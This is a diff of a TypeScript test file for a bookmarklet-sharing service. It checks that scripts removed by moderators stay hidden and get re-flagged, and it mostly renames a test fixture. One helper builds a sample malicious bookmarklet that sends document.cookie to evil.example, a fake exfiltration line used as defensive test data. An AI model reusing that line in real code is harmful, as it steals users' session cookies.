@@ -1,29 +1,30 @@
 import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
+import { forgetRates, newcomer, openFixture, type Person } from "../support/fixture.ts";
 import { type SavedScript, save } from "../support/save.ts";
-import { forgetRates, newcomer, openWorld, type Person } from "../support/world.ts";
 
-const world = openWorld();
-const { anon, owner } = world.people;
-afterAll(() => world.close());
-beforeEach(() => forgetRates(world));
+const fixture = openFixture();
+const { anon, owner } = fixture.people;
+afterAll(() => fixture.close());
+beforeEach(() => forgetRates(fixture));
 
 let author: Person & { readonly id: string };
 let somebodyElse: Person & { readonly id: string };
 beforeAll(async () => {
-	author = await newcomer(world, "Mallory");
-	somebodyElse = await newcomer(world, "Mallory's friend");
+	author = await newcomer(fixture, "Mallory");
+	somebodyElse = await newcomer(fixture, "Mallory's friend");
 });
 
-const remove = (id: string) => world.sql`update public.bookmarklets set moderation_status = 'removed' where id = ${id}`;
+const remove = (id: string) =>
+	fixture.sql`update public.bookmarklets set moderation_status = 'removed' where id = ${id}`;
 const approve = (id: string) =>
-	world.sql`update public.bookmarklets set moderation_status = 'approved' where id = ${id}`;
+	fixture.sql`update public.bookmarklets set moderation_status = 'approved' where id = ${id}`;
 const isPublic = async (id: string) => ((await anon.hub.rpc("get_script", { p_id: id })).data ?? []).length === 1;
 const delete_ = async (id: string) => {
 	const { error } = await author.hub.rpc("delete_script", { p_id: id });
 	expect(error).toBeNull();
 };
 
-/** Code that nothing else has, saved by the author and removed by a moderator. */
+/** Unique code, saved by the author and removed by a moderator. */
 async function removedCode(): Promise<{ readonly code: string; readonly saved: SavedScript }> {
 	const code = `javascript:(()=>{ fetch("https://evil.example/" + document.cookie); /* ${crypto.randomUUID()} */ })("${crypto.randomUUID()}")`;
 	const saved = await save(author, { p_code: code });
@@ -38,7 +39,7 @@ describe("code that a moderator removed", () => {
 		const again = await save(author, { p_code: code });
 		expect(again).toMatchObject({ is_published: true, moderation_status: "pending" });
 		expect(await isPublic(again.id)).toBe(false);
-		const [report] = await world.sql`
+		const [report] = await fixture.sql`
 			select reason, status, reporter_id from public.moderation_reports where bookmarklet_id = ${again.id}`;
 		expect(report).toEqual({ reason: "malicious", status: "pending", reporter_id: null });
 	});
@@ -98,7 +99,7 @@ describe("code that a moderator removed", () => {
 		expect(await save(somebodyElse, { ...update, p_code: code })).toMatchObject({ moderation_status: "pending" });
 	});
 
-	test("stays out when its owner withdraws and publishes, or saves other code over it", async () => {
+	test("stays hidden when its owner withdraws and publishes it, or saves other code over it", async () => {
 		const { code } = await removedCode();
 		const held = await save(somebodyElse, { p_code: code });
 		for (const p_published of [false, true]) {
@@ -118,9 +119,9 @@ describe("code that a moderator removed", () => {
 		expect(await save(owner, { p_code: code })).toMatchObject({ moderation_status: "none" });
 	});
 
-	test("is still told from what never was after its script was deleted", async () => {
+	test("is still distinguished from unknown code after its script was deleted", async () => {
 		const { saved } = await removedCode();
-		const [version] = await world.sql<{ sha256: string }[]>`
+		const [version] = await fixture.sql<{ sha256: string }[]>`
 			select sha256 from public.versions where id = ${saved.version_id}`;
 		await delete_(saved.id);
 		expect((await anon.hub.rpc("script_was_removed", { p_bookmarklet_id: saved.id })).data).toBe(true);
